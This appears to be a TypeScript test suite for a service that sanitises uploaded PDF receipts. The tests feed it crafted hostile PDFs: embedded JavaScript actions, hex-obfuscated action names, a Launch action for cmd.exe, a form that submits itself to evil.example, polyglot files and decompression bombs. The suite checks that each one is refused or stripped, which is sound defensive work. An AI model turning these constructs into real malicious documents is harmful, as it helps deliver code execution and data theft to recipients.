import { deflateSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFRawStream } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { fixture, latin1, mark, outcomeOf, pdfOf, refusalOf, streamOf } from '../../test/proof-files.ts';

/** What the pages of a PDF show: their streams, and how large they are. */
const shownBy = async (file: Buffer) => {
  const { context } = await PDFDocument.load(file, { updateMetadata: false });
  const objects = context.enumerateIndirectObjects().map(([, object]) => object);
  return {
    streams: objects
      .filter(
        (object) => object instanceof PDFRawStream && object.dict.get(PDFName.of('Type')) !== PDFName.of('ObjStm'),
      )
      .filter((object) => object instanceof PDFRawStream && object.contents.length > 0)
      .map((object) => Buffer.from((object as PDFRawStream).contents).toString('base64'))
      .sort(),
    boxes: objects
      .flatMap((object) => (object instanceof PDFDict ? [String(object.lookup(PDFName.of('MediaBox')))] : []))
      .sort(),
  };
};

describe('a PDF as a proof', () => {
  const variants = [
    'receipt-bom.pdf',
    'receipt-newline.pdf',
    'receipt-junk-behind.pdf',
    'receipt-linearized.pdf',
    'receipt-objstm.pdf',
    'receipt-first-view.pdf',
    'receipt-goto-first-page.pdf',
    'receipt-factur-x.pdf',
    'receipt-owner-password.pdf',
    'receipt-owner-password-rc4.pdf',
    'receipt-owner-password-objstm.pdf',
  ];
  it.each(variants)('is the same as the plain one, whatever is around its page: %s', async (name) => {
    const plain = await outcomeOf(fixture('receipt-img2pdf.pdf'));
    const { bytes } = await outcomeOf(fixture(name));
    expect(await shownBy(bytes)).toEqual(await shownBy(plain.bytes));
    expect(bytes.includes(mark)).toBe(false);
  });

  it.each([
    ['receipt-img2pdf.pdf', 1],
    ['receipt-reportlab.pdf', 1],
    ['receipt-reportlab-bookmarks.pdf', 2],
    ['receipt-bookmarks-objstm.pdf', 2],
    ['receipt-link.pdf', 1],
    ['receipt-form.pdf', 1],
    ['receipt-gs.pdf', 1],
    ['receipt-chromium.pdf', 1],
  ])('is written anew with what its pages show: %s', async (name, pages) => {
    const { contentType, bytes } = await outcomeOf(fixture(name));
    expect(contentType).toBe('application/pdf');
    const copy = await PDFDocument.load(bytes, { updateMetadata: false });
    expect(copy.getPageCount()).toBe(pages);
    expect(copy.catalog.keys().map(String).sort()).toEqual(['/Pages', '/Type']);
    for (const page of copy.getPages()) {
      const allowedKeys = [
        'Type',
        'Parent',
        'MediaBox',
        'CropBox',
        'Rotate',
        'Resources',
        'Contents',
        'Group',
        'Annots',
      ];
      expect(allowedKeys.map((key) => `/${key}`)).toEqual(expect.arrayContaining(page.node.keys().map(String)));
      expect(page.node.lookup(PDFName.of('Contents'))).toBeDefined();
    }
    expect(bytes.includes(mark)).toBe(false);
  });

  const jpegOf = (width: number, height: number) => {
    const header = Buffer.from([0xff, 0xd8, 0xff, 0xc2, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
    header.writeUInt16BE(height, 7);
    header.writeUInt16BE(width, 9);
    return header;
  };
  const jpeg2000Of = (width: number, height: number) => {
    const header = Buffer.alloc(60);
    header.set([0xff, 0x4f, 0xff, 0x51, 0, 47]);
    header.writeUInt32BE(width, 8);
    header.writeUInt32BE(height, 12);
    return header;
  };

  it.each([
    ['DCTDecode', jpegOf(60_000, 60_000)],
    ['JPXDecode', Buffer.concat([Buffer.alloc(85, 1), jpeg2000Of(60_000, 60_000)])],
  ])('is refused for the pixels that an image has by its own bytes: %s', async (filter, image) => {
    const entries = `/Subtype /Image /Width 10 /Height 10 /Filter /${filter}`;
    const page = '/Resources << /XObject << /I 9 0 R >> >>';
    const file = (bytes: Buffer) => pdfOf({ page, objects: [`9 0 obj ${streamOf(bytes, entries)} endobj`] });
    expect(await refusalOf(file(image))).toBe('proof-too-many-pixels');
    const small = filter === 'DCTDecode' ? jpegOf(10, 10) : jpeg2000Of(10, 10);
    expect((await outcomeOf(file(small))).contentType).toBe('application/pdf');
  });

  it('shows what is written in its form fields, which cannot be changed any more', async () => {
    const { bytes } = await outcomeOf(fixture('receipt-form.pdf'));
    const copy = await PDFDocument.load(bytes);
    const stamp = copy.getPage(0).node.Annots()?.lookup(0, PDFDict);
    expect(stamp?.lookup(PDFName.of('Subtype'))).toBe(PDFName.of('Stamp'));
    const appearance = stamp?.lookup(PDFName.of('AP'), PDFDict).lookup(PDFName.of('N'));
    expect(appearance).toBeInstanceOf(PDFRawStream);
    expect(stamp?.keys().map(String).sort()).toEqual(['/AP', '/F', '/Rect', '/Subtype', '/Type']);
  });

  it('has no object that no page shows: earlier revisions, attachments, unused objects, entries of programs', async () => {
    const file = pdfOf({
      catalog: '/Names << /EmbeddedFiles 9 0 R >> /PageLabels << /Nums [0 (MARK)] >> /AF [9 0 R] /Metadata 10 0 R',
      page: '/PieceInfo << /Program (MARK) >> /Resources << /Font << /EF 11 0 R /Ref 11 0 R >> >> /Annots [12 0 R]',
      objects: [
        '9 0 obj << /Type /Filespec /F (MARK) /EF << /F 13 0 R >> >> endobj',
        `10 0 obj ${streamOf('MARK', '/Type /Metadata')} endobj`,
        '11 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Kept /Metadata 10 0 R /AF 9 0 R >> endobj',
        '12 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (MARK) >> >> endobj',
        `13 0 obj ${streamOf('MARK', '/Type /EmbeddedFile')} endobj`,
        `14 0 obj ${streamOf('MARK')} endobj`,
      ],
    });
    const { bytes } = await outcomeOf(file);
    const copy = await PDFDocument.load(bytes);
    const objects = copy.context.enumerateIndirectObjects().map(([, object]) => String(object));
    expect(objects.join('\n')).toContain('/Kept');
    expect(objects.join('\n')).not.toMatch(/MARK|Metadata|EmbeddedFile|PieceInfo/);
    const names = copy.getPage(0).node.Resources()?.lookup(PDFName.of('Font'), PDFDict).keys().map(String);
    expect(names).toEqual(['/EF', '/Ref']);
  });

  it.each(['receipt-script.pdf', 'receipt-script-objstm.pdf', 'receipt-script-encrypted.pdf', 'receipt-launch.pdf'])(
    'is refused when it acts: %s',
    async (name) => {
      expect(await refusalOf(fixture(name))).toBe('proof-active-content');
    },
  );

  const compressedObjects = (objects: string, dictionary = '/Filter /FlateDecode') =>
    streamOf(deflateSync(latin1(objects)), `/Type /ObjStm /N 1 /First 4 ${dictionary}`);
  const ascii85 = (bytes: Buffer) => {
    const groups = Array.from({ length: Math.ceil(bytes.length / 4) }, (_, index) => {
      const group = Buffer.concat([bytes.subarray(index * 4, index * 4 + 4), Buffer.alloc(4)]).subarray(0, 4);
      const digits = [4, 3, 2, 1, 0].map((power) => Math.floor(group.readUInt32BE() / 85 ** power) % 85);
      return String.fromCharCode(...digits.map((digit) => digit + 33)).slice(
        0,
        Math.min(4, bytes.length - index * 4) + 1,
      );
    });
    return `${groups.join('')}~>`;
  };
  const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
  it.each([
    ['a script', { objects: [`9 0 obj ${action} endobj`] }],
    ['a script without a type', { objects: ['9 0 obj << /JS (app.alert(1)) >> endobj'] }],
    ['names in hexadecimal', { objects: ['9 0 obj << /#53 /J#61vaScript /#4a#53 (1) >> endobj'] }],
    ['a script when it opens', { catalog: `/OpenAction ${action}` }],
    ['a script deep in arrays', { catalog: `/OpenAction [[[ ${action} ]]]` }],
    ['a script when a page opens', { page: `/AA << /O ${action} >>` }],
    ['a program to start', { page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }],
    ['a form that sends itself', { catalog: '/AA << /WC << /S /SubmitForm /F (http://evil.example) >> >>' }],
    ['a script in an object stream', { objects: [`9 0 obj ${compressedObjects(`8 0 ${action}`)} endobj`] }],
    [
      'a script in an object stream written as text',
      {
        objects: [
          `9 0 obj ${streamOf(ascii85(deflateSync(latin1(`8 0 ${action}`))), '/Type /ObjStm /N 1 /First 4 /Filter [/A85 /FlateDecode]')} endobj`,
        ],
      },
    ],
    ['a script in a stream’s own dictionary', { objects: [`9 0 obj ${streamOf('x', `/X ${action}`)} endobj`] }],
  ])('is refused with %s', async (_, parts) => {
    expect(await refusalOf(pdfOf(parts))).toBe('proof-active-content');
  });

  it.each([
    ['the words of a script in what it shows', { content: streamOf('BT (/S /JavaScript /Launch) Tj ET') }],
    ['an image that spells a script', { objects: [`9 0 obj ${streamOf(' << /S /JavaScript >> ')} endobj`] }],
    ['resources that are named like actions', { page: '/Resources << /Font << /JS 9 0 R /AA 9 0 R >> >>' }],
    ['a structure and transparency', { page: '/Group << /S /Transparency >>' }],
    [
      'an object stream that does not inflate',
      { objects: [`9 0 obj ${streamOf('x', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')} endobj`] },
    ],
    [
      'an object stream within an object stream',
      { objects: [`9 0 obj ${compressedObjects(`8 0 ${compressedObjects('7 0 <<>>')}`)} endobj`] },
    ],
  ])('is taken with %s', async (_, parts) => {
    expect(await outcomeOf(pdfOf(parts))).toMatchObject({ contentType: 'application/pdf' });
  });

  it('is refused with a password of its own', async () => {
    expect(await refusalOf(fixture('receipt-user-password.pdf'))).toBe('proof-encrypted');
    expect(await refusalOf(pdfOf({ trailer: '/Encrypt << /Filter /Unknown /V 9 >> /ID [<00> <00>]' }))).toBe(
      'proof-encrypted',
    );
  });

  it('is refused when it is broken off before its pages, or has none', async () => {
    expect(await refusalOf(pdfOf().subarray(0, 80))).toBe('proof-damaged');
    expect(await refusalOf(latin1('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer <<>>\n%%EOF\n'))).toBe(
      'proof-damaged',
    );
  });

  it.each([
    ['a program before it', Buffer.concat([latin1('MZ\x90\0'), pdfOf()])],
    ['a page before it', Buffer.concat([latin1('<script>alert(1)</script>'), pdfOf()])],
    ['an archive before it', Buffer.concat([latin1('PK\x03\x04'), Buffer.alloc(40), pdfOf()])],
  ])('is refused with %s', async (_, file) => {
    expect(await refusalOf(file)).toBe('proof-unsupported');
  });

  it('is gone from an image that hides it', async () => {
    const photo = fixture('photo-plain.jpg');
    const hiddenPdf = pdfOf();
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), hiddenPdf]);
    comment.writeUInt16BE(hiddenPdf.length + 2, 2);
    const { contentType, bytes } = await outcomeOf(Buffer.concat([photo.subarray(0, 2), comment, photo.subarray(2)]));
    expect(contentType).toBe('image/jpeg');
    expect(bytes.includes('%PDF')).toBe(false);
  });

  const bomb = deflateSync(Buffer.alloc(130 * 1024 * 1024));
  const objectBomb = deflateSync(Buffer.alloc(17 * 1024 * 1024, ' '));
  const pages = (count: number) => `/Kids [${'3 0 R '.repeat(count)}]`;
  it.each([
    ['a page that inflates to too much', pdfOf({ content: streamOf(bomb, '/Filter /FlateDecode') })],
    [
      'objects that inflate to too much',
      pdfOf({ objects: [`9 0 obj ${compressedObjects(`8 0 ${' '.repeat(17 * 1024 * 1024)}`)} endobj`] }),
    ],
    [
      'many object streams that inflate to too much together',
      pdfOf({
        objects: Array.from(
          { length: 17 },
          (_, index) => `${90 + index} 0 obj ${compressedObjects(`8 0 ${' '.repeat(1024 * 1024)}`)} endobj`,
        ),
      }),
    ],
    ['what inflates twice', pdfOf({ content: streamOf(deflateSync(bomb), '/Filter [/FlateDecode /FlateDecode]') })],
    [
      'an image of too many pixels',
      pdfOf({
        page: '/Resources << /XObject << /I 9 0 R >> >>',
        objects: [
          `9 0 obj ${streamOf('x', '/Subtype /Image /Width 50000 /Height 50000 /Filter /CCITTFaxDecode')} endobj`,
        ],
      }),
    ],
    ['too many pages', latin1(pdfOf().toString('latin1').replace('/Kids [3 0 R]', pages(101)))],
  ])('is refused with %s', async (what, file) => {
    expect(objectBomb.length).toBeLessThan(100_000);
    expect(await refusalOf(file)).toBe(what.includes('pixels') ? 'proof-too-many-pixels' : 'proof-too-complex');
  });

  it('has as many pages as it may', async () => {
    const file = latin1(pdfOf().toString('latin1').replace('/Kids [3 0 R]', pages(100)));
    expect(await refusalOf(file)).toBeUndefined();
  });
});
